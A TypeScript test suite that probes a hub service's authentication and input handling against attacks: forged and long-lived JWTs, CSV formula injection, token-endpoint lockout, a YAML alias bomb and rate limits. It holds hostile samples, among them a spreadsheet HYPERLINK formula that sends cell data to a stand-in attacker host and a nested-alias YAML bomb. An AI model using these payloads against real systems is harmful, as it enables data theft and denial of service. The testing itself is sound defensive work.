/**
 * Issue 21, part 4 and its "Also" list, as an attacker would try them against a running hub
 * (NODE_ENV=production, the real broker and database): tokens that live for years or name their
 * partner in the wrong claim, people tokens signed with the shared API key, formulas in the
 * privacy officer's CSV, the token endpoint's lockout, a malformed Basic header, a YAML alias
 * bomb, a flood of refused requests, and the partner door on a listener of its own.
 */
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { SignJWT, decodeProtectedHeader, exportJWK, generateKeyPair, type JWTPayload, type KeyLike } from 'jose';
import { requestToken } from '../../deploy/local/https-partner';
import { signToken } from '../../apps/hub/src/auth/token';
import { clientSecretOf } from '../../apps/hub/src/gateway/partner-secrets';
import { ROLE_GROUPS, testOidcIssuer, type TestOidcIssuer } from '../support/oidc';
import { openScenario, type Scenario } from '../support/scenario';
import { ROOT, testKeys } from '../support/test-env';

const HUB_ISSUER = 'urn:ketenhub:hub';
const HUB_AUDIENCE = 'urn:ketenhub:api';
const TEN_YEARS = 10 * 365 * 86_400;
const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")';

/** An external authorization server for partner tokens (OAUTH_ISSUER), served from this test. */
async function externalPartnerIssuer(): Promise<{ issuer: string; jwksUrl: string; sign(claims: JWTPayload, exp: number, iat?: number): Promise<string>; close(): Promise<void> }> {
  const { publicKey, privateKey } = await generateKeyPair('ES256');
  const jwks = JSON.stringify({ keys: [{ ...(await exportJWK(publicKey)), kid: 'partners-1', alg: 'ES256', use: 'sig' }] });
  const server = http.createServer((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(jwks));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const issuer = `${base}/partners`;
  return {
    issuer, jwksUrl: `${base}/partners/jwks`,
    sign(claims, exp, iat) {
      const jwt = new SignJWT(claims).setProtectedHeader({ alg: 'ES256', kid: 'partners-1' }).setIssuer(issuer).setAudience(HUB_AUDIENCE).setExpirationTime(exp);
      if (iat !== undefined) jwt.setIssuedAt(iat);
      return jwt.sign(privateKey);
    },
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** POST /oauth/token from a chosen local address (all of 127.0.0.0/8 is this machine), as two clients behind different addresses would. */
function tokenFrom(url: string, localAddress: string, clientId: string, secret: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const body = new URLSearchParams({ grant_type: 'client_credentials', client_id: clientId, client_secret: secret }).toString();
    const request = http.request(`${url}/oauth/token`, { method: 'POST', localAddress, headers: { 'content-type': 'application/x-www-form-urlencoded' } }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    request.on('error', reject);
    request.end(body);
  });
}

const now = () => Math.floor(Date.now() / 1000);

describe('who may get in (issue 21: tokens, people, the token endpoint, listeners)', () => {
  const keys = testKeys();
  const apiKey = Buffer.from(keys.api, 'base64');
  /** The API key before the last rotation, still accepted (API_TOKEN_PREVIOUS_KEYS) while its tokens run out. */
  const previousKey = randomBytes(32);
  const partnerKey = Buffer.from(keys.partner, 'base64');
  let scenario: Scenario;
  let oidc: TestOidcIssuer;
  let partners: Awaited<ReturnType<typeof externalPartnerIssuer>>;
  /** The key id the hub puts in the header of its own tokens, read from one it issued. */
  let hubKid: string | undefined;

  const get = (path: string, token: string, base = scenario.hub.url) => fetch(`${base}${path}`, { headers: { authorization: `Bearer ${token}` } });
  /** A token signed with the hub's own API_TOKEN_KEY, as only someone holding that key could make it. */
  function hubToken(claims: JWTPayload, times: { exp: number; iat?: number }): Promise<string> {
    const jwt = new SignJWT(claims).setProtectedHeader({ alg: 'HS256', ...(hubKid ? { kid: hubKid } : {}) })
      .setIssuer(HUB_ISSUER).setAudience(HUB_AUDIENCE).setExpirationTime(times.exp);
    if (times.iat !== undefined) jwt.setIssuedAt(times.iat);
    return jwt.sign(apiKey);
  }
  const person = (role: keyof typeof ROLE_GROUPS, name: string) => oidc.sign({ sub: `${role.toLowerCase()}-1`, name, roles: [ROLE_GROUPS[role]] });
  const refusedReads = async (partnerId: string) =>
    (await scenario.db.query("SELECT count(*)::int AS n FROM audit_log WHERE outcome = 'REFUSED' AND actor_partner_id = $1", [partnerId]))[0].n as number;

  beforeAll(async () => {
    oidc = await testOidcIssuer();
    partners = await externalPartnerIssuer();
    scenario = await openScenario([], {
      OAUTH_ISSUER: partners.issuer, OAUTH_JWKS_URL: partners.jwksUrl, OAUTH_AUDIENCE: HUB_AUDIENCE,
      PARTNER_RATE_LIMIT_PER_SECOND: '5', GATEWAY_PORT: '0', API_TOKEN_PREVIOUS_KEYS: previousKey.toString('base64'),
    }, keys);
    const issued = await requestToken(scenario.hub.url, 'veilig-thuis-flevoland', clientSecretOf(partnerKey, 'veilig-thuis-flevoland'));
    expect(issued.status).toBe(200);
    hubKid = decodeProtectedHeader(((await issued.json()) as { access_token: string }).access_token).kid;
  });
  afterAll(async () => {
    await scenario?.close();
    await partners?.close();
  });

  describe('tokens', () => {
    it('refuses a hub-signed token without iat that is valid for ten years, and one whose expiry is years away however recent its iat', async () => {
      const noIat = await hubToken({ ketenhub_role: 'PARTNER', sub: 'toegang-almere' }, { exp: now() + TEN_YEARS });
      const answer = await get('/deliveries', noIat);
      expect(answer.status).toBe(401);
      expect(((await answer.json()) as { detail: string }).detail).toMatch(/iat/);
      const farExpiry = await hubToken({ ketenhub_role: 'PARTNER', sub: 'toegang-almere' }, { exp: now() + TEN_YEARS, iat: now() + TEN_YEARS - 600 });
      expect((await get('/deliveries', farExpiry)).status).toBe(401);
      // The same claims with a lifetime within the hour get in: it is the lifetime that is refused.
      expect((await get('/deliveries', await hubToken({ ketenhub_role: 'PARTNER', sub: 'toegang-almere' }, { exp: now() + 600, iat: now() }))).status).toBe(200);
    });

    it('puts a key id in the hub\'s own tokens, and refuses a hub token without one', async () => {
      expect(hubKid).toMatch(/^[A-Za-z0-9_-]{8,}$/);
      const withoutKid = await new SignJWT({ ketenhub_role: 'PARTNER' }).setProtectedHeader({ alg: 'HS256' }).setSubject('toegang-almere')
        .setIssuer(HUB_ISSUER).setAudience(HUB_AUDIENCE).setIssuedAt().setExpirationTime('10m').sign(apiKey);
      const answer = await get('/deliveries', withoutKid);
      expect(answer.status).toBe(401);
      expect(((await answer.json()) as { detail: string }).detail).toMatch(/kid/);
    });

    it('accepts a token of the previous API key during a rotation, and not one of a key it was never given', async () => {
      const claims = { sub: 'toegang-almere', role: 'PARTNER' as const };
      expect((await get('/deliveries', await signToken(previousKey, claims))).status).toBe(200);
      const stranger = await get('/deliveries', await signToken(randomBytes(32), claims));
      expect(stranger.status).toBe(401);
      expect(((await stranger.json()) as { detail: string }).detail).toContain('API_TOKEN_PREVIOUS_KEYS');
    });

    it('refuses an external partner token that names its partner only in sub, or has no iat and lives ten years', async () => {
      const subOnly = await partners.sign({ sub: 'toegang-almere' }, now() + 600, now());
      const answer = await get('/deliveries', subOnly);
      expect(answer.status).toBe(401);
      expect(((await answer.json()) as { detail: string }).detail).toContain('client_id');
      expect((await get('/deliveries', await partners.sign({ client_id: 'toegang-almere' }, now() + TEN_YEARS))).status).toBe(401);
      expect((await get('/deliveries', await partners.sign({ client_id: 'toegang-almere', sub: 'svc-1' }, now() + 600, now()))).status).toBe(200);
    });
  });

  describe('people', () => {
    it('refuses a correctly signed HS256 privacy officer or information manager token in production, naming the setting', async () => {
      const officer = await hubToken({ ketenhub_role: 'PRIVACY_OFFICER', sub: 'fg', name: 'Iemand die zegt de FG te zijn' }, { exp: now() + 600, iat: now() });
      const answer = await get('/privacy/disclosures', officer);
      expect(answer.status).toBe(401);
      expect(((await answer.json()) as { detail: string }).detail).toContain('OIDC_ISSUER');
      const manager = await hubToken({ ketenhub_role: 'INFORMATIEMANAGER', sub: 'im', name: 'Iemand' }, { exp: now() + 600, iat: now() });
      expect((await get('/admin/config', manager)).status).toBe(401);
    });

    it('accepts a privacy officer from the OpenID Connect provider, with the name the provider gives in the audit', async () => {
      const answer = await get('/privacy/disclosures', await person('PRIVACY_OFFICER', 'M. Bakker (FG, OIDC)'));
      expect(answer.status).toBe(200);
      const [read] = await scenario.db.query("SELECT actor_role, actor_person FROM audit_log WHERE action = 'AUDIT_READ' ORDER BY seq DESC LIMIT 1");
      expect(read).toEqual({ actor_role: 'PRIVACY_OFFICER', actor_person: 'M. Bakker (FG, OIDC)' });
      expect((await get('/admin/config', await person('INFORMATIEMANAGER', 'R. de Boer'))).status).toBe(200);
      // A person the provider gives neither role, and a provider token that lives ten years, do not get in.
      expect((await get('/privacy/disclosures', await oidc.sign({ sub: 'x', name: 'X', roles: ['medewerker'] }))).status).toBe(401);
      expect((await get('/privacy/disclosures', await oidc.sign({ sub: 'x', name: 'X', roles: [ROLE_GROUPS.PRIVACY_OFFICER] }, { seconds: TEN_YEARS, iat: null }))).status).toBe(401);
    });
  });

  it('escapes a formula that an attacker got into the trail when the privacy officer exports it as CSV', async () => {
    const hostile = await partners.sign({ client_id: HOSTILE }, now() + 600, now());
    expect((await get('/deliveries', hostile)).status).toBe(403);
    const csv = await get('/privacy/disclosures?action=READ&format=csv&pageSize=1000', await person('PRIVACY_OFFICER', 'M. Bakker (FG)'));
    expect(csv.status).toBe(200);
    const text = await csv.text();
    expect(text).toContain('HYPERLINK');
    // No cell begins with =, +, - or @ (a spreadsheet would run it); the hostile one is prefixed with '.
    expect(text).not.toMatch(/(^|,)"?[=+@-]/m);
    expect(text).toContain(`"'${HOSTILE.replace(/"/g, '""')}"`);
  });

  describe('the token endpoint', () => {
    it('locks out wrong secrets per client id and address: another partner behind the same address still gets its token', async () => {
      const url = scenario.hub.url;
      const statuses: number[] = [];
      for (let i = 0; i < 11; i++) statuses.push(await tokenFrom(url, '127.0.0.1', 'toegang-almere', 'wrong-secret'));
      expect(statuses.slice(0, 10)).toEqual(Array(10).fill(401));
      expect(statuses[10]).toBe(429);
      expect(await tokenFrom(url, '127.0.0.1', 'toegang-almere', clientSecretOf(partnerKey, 'toegang-almere'))).toBe(429);
      expect(await tokenFrom(url, '127.0.0.1', 'toegang-lelystad', clientSecretOf(partnerKey, 'toegang-lelystad'))).toBe(200);
      expect(await tokenFrom(url, '127.0.0.2', 'toegang-almere', clientSecretOf(partnerKey, 'toegang-almere'))).toBe(200);
    });

    it('answers 400, not 500, to a malformed % escape in HTTP Basic authentication', async () => {
      const answer = await fetch(`${scenario.hub.url}/oauth/token`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Basic ${Buffer.from('toegang-almere:%zz').toString('base64')}` },
        body: 'grant_type=client_credentials',
      });
      expect(answer.status).toBe(400);
      expect(await answer.json()).toMatchObject({ error: 'invalid_request', error_description: expect.stringContaining('%') });
    });
  });

  it('answers a YAML alias bomb in the admin API with 422 and what is wrong, not 500', async () => {
    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 9; i++) {
      const name = String.fromCharCode(97 + i);
      const prev = String.fromCharCode(96 + i);
      levels.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(',')}]`);
    }
    const answer = await fetch(`${scenario.hub.url}/admin/config/validate`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${await person('INFORMATIEMANAGER', 'R. de Boer')}` },
      body: JSON.stringify({ regionYaml: levels.join('\n') }),
    });
    expect(answer.status).toBe(422);
    const body = (await answer.json()) as { problems: string[] };
    expect(body.problems.join(' ')).toMatch(/alias/i);
  });

  it('counts refused requests against the partner\'s rate limit before auditing them, so a flood of 403s cannot fill the trail', async () => {
    const token = await hubToken({ ketenhub_role: 'PARTNER', sub: 'veilig-thuis-flevoland' }, { exp: now() + 600, iat: now() });
    const before = await refusedReads('veilig-thuis-flevoland');
    const started = Date.now();
    const statuses: number[] = [];
    for (let i = 0; i < 60; i++) statuses.push((await get('/privacy/disclosures', token)).status);
    const seconds = (Date.now() - started) / 1000;
    const forbidden = statuses.filter((s) => s === 403).length;
    const audited = (await refusedReads('veilig-thuis-flevoland')) - before;
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThan(0);
    expect(forbidden + statuses.filter((s) => s === 429).length).toBe(60);
    // Every 403 is audited, and there are no more of them than the limit (5 a second) allows.
    expect(audited).toBe(forbidden);
    expect(forbidden).toBeLessThanOrEqual(5 * (Math.ceil(seconds) + 1));
  });

  describe('listeners', () => {
    const gatewayUrl = () => {
      const line = scenario.hub.logs.find((l) => /^ketenhub hub ready: .* gateway (\S+)/.test(l));
      const match = line && / gateway (\S+)/.exec(line);
      if (!match) throw new Error(`the hub did not print a gateway listener in its ready line:\n${scenario.hub.logs.filter((l) => l.startsWith('ketenhub')).join('\n')}`);
      return match[1];
    };

    it('serves the partner door on GATEWAY_PORT and nothing else there; the main port keeps /metrics, /api, the admin and privacy APIs', async () => {
      const gateway = gatewayUrl();
      expect(gateway).not.toBe(scenario.hub.url);
      const issued = await requestToken(gateway, 'toegang-lelystad', clientSecretOf(partnerKey, 'toegang-lelystad'));
      expect(issued.status).toBe(200);
      const token = ((await issued.json()) as { access_token: string }).access_token;
      expect((await get('/feed', token, gateway)).status).toBe(200);
      const posted = await fetch(`${gateway}/events`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/cloudevents+json' }, body: '{}' });
      expect(posted.status).toBe(400);
      for (const path of ['/metrics', '/api', '/api/openapi.json', '/admin/config', '/privacy/disclosures']) {
        const answer = await fetch(`${gateway}${path}`);
        expect({ path, status: answer.status }).toEqual({ path, status: 404 });
      }
      expect((await fetch(`${scenario.hub.url}/metrics`)).status).toBe(200);
      expect((await fetch(`${scenario.hub.url}/api/openapi.json`)).status).toBe(200);
      expect((await get('/admin/config', await person('INFORMATIEMANAGER', 'R. de Boer'))).status).toBe(200);
      expect((await get('/privacy/disclosures', await person('PRIVACY_OFFICER', 'M. Bakker (FG)'))).status).toBe(200);
    });

    it('does not say it runs Express (no x-powered-by), on either listener', async () => {
      const main = await fetch(`${scenario.hub.url}/health`);
      expect(main.status).toBe(200);
      expect(main.headers.get('x-powered-by')).toBeNull();
      const door = await fetch(`${gatewayUrl()}/health`);
      expect(door.status).toBe(200);
      expect(door.headers.get('x-powered-by')).toBeNull();
    });
  });

  it('refuses to boot with KETENHUB_FAILPOINT set when NODE_ENV=production, naming the variable (exit 2)', () => {
    const result = spawnSync(process.execPath, [path.join(ROOT, 'dist', 'apps', 'hub', 'src', 'main.js')], {
      env: {
        ...process.env, NODE_ENV: 'production', BSN_HASH_KEY: keys.hash, BSN_ENCRYPTION_KEY: keys.encryption, API_TOKEN_KEY: keys.api, PARTNER_SECRET_KEY: keys.partner,
        HTTP_PORT: '0', DATABASE_URL: scenario.databaseUrl, KETENHUB_TOPIC_PREFIX: scenario.prefix, KETENHUB_FAILPOINT: 'kill-after-db-commit:x',
      },
      encoding: 'utf8', timeout: 60_000, killSignal: 'SIGKILL',
    });
    expect({ status: result.status, stderr: result.stderr }).toEqual({ status: 2, stderr: expect.stringContaining('KETENHUB_FAILPOINT') });
  });
});
